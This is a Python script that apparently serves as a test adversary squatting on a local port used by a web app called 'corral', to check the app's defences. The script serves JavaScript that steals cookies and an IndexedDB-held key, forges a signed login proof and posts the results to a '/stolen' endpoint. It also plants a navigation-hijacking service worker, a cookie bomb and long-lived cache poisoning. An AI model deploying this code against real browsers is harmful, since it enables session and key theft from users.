"""A program of another user that listens where it should not, writes down all it gets, and leaves what it can.

`python squatter.py PORT`: on both loopback addresses of that port, or of any when it is 0. Says the port, then one
line of JSON per request.
"""

import json
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = b"<!doctype html><html><body><p>squatted</p><script src=/assets/own.js></script></body></html>"
SCRIPT = rb"""
window.squatted = true;
const ask = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result); request.onerror = () => reject(request.error); });
const hex = (bytes) => Array.from(new Uint8Array(bytes), (one) => one.toString(16).padStart(2, "0")).join("");
(async () => {
  await navigator.serviceWorker.register("/sw.js");
  const found = { cookie: document.cookie };
  try {
    const database = await ask(indexedDB.open("corral"));
    const kept = await ask(database.transaction("door").objectStore("door").get("login"));
    found.login = kept.login;
    found.raw = await crypto.subtle.exportKey("raw", kept.key).then(hex, () => null);
    const said = await (await fetch("/api/hello", { method: "POST" })).json();
    const words = `corral page\n${location.origin}\n${kept.login}\n${"0".repeat(32)}\n${said.nonce}`;
    found.nonce = said.nonce;
    found.proof = hex(await crypto.subtle.sign("HMAC", kept.key, new TextEncoder().encode(words)));
  } catch (error) { found.error = String(error); }
  await fetch("/stolen", { method: "POST", body: JSON.stringify(found) });
})();
"""
BOMB = b"""<script>for (let number = 0; number < 170; number += 1)
  document.cookie = `bomb${number}=${"x".repeat(4000)}; path=/; max-age=99999`;</script>"""
WORKER = b"""
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => event.request.mode === "navigate" && event.respondWith(new Response(
  "<p>squatted by a worker</p><script>window.squatted = true</script>", { headers: { "Content-Type": "text/html" } })));
"""
WRITING = threading.Lock()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self, body: bytes, kind: str, *more: tuple[str, str]) -> None:
        self.send_response(200)
        for name, value in (("Content-Type", kind), ("Content-Length", str(len(body))), *more):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def note(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
        line = {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body}
        with WRITING:
            print(json.dumps(line), flush=True)

    def do_GET(self) -> None:
        self.note()
        if self.path.startswith("/bomb"):
            toss = [("Set-Cookie", f"{name}=tossed; Path=/") for name in ("token", "corral", "login")]
            self.answer(BOMB, "text/html", *toss)
        elif self.path == "/sw.js":
            self.answer(WORKER, "text/javascript")
        elif self.path.endswith(".js"):
            self.answer(SCRIPT, "text/javascript", ("Cache-Control", "public, max-age=31536000, immutable"))
        else:
            self.answer(PAGE, "text/html", ("Cache-Control", "public, max-age=31536000"))

    def do_POST(self) -> None:
        self.note()
        said = {"nonce": "0" * 32, "proof": "00" * 32, "token": "t", "ticket": "t", "seconds": 300}
        self.answer(json.dumps(said).encode(), "application/json")

    def log_message(self, *words: object) -> None:
        pass


class Server6(ThreadingHTTPServer):
    address_family = socket.AF_INET6


def main() -> None:
    first = ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler)
    port = first.server_address[1]
    second = Server6(("::1", port), Handler)
    print(json.dumps({"port": port}), flush=True)
    threading.Thread(target=second.serve_forever, daemon=True).start()
    first.serve_forever()


if __name__ == "__main__":
    main()
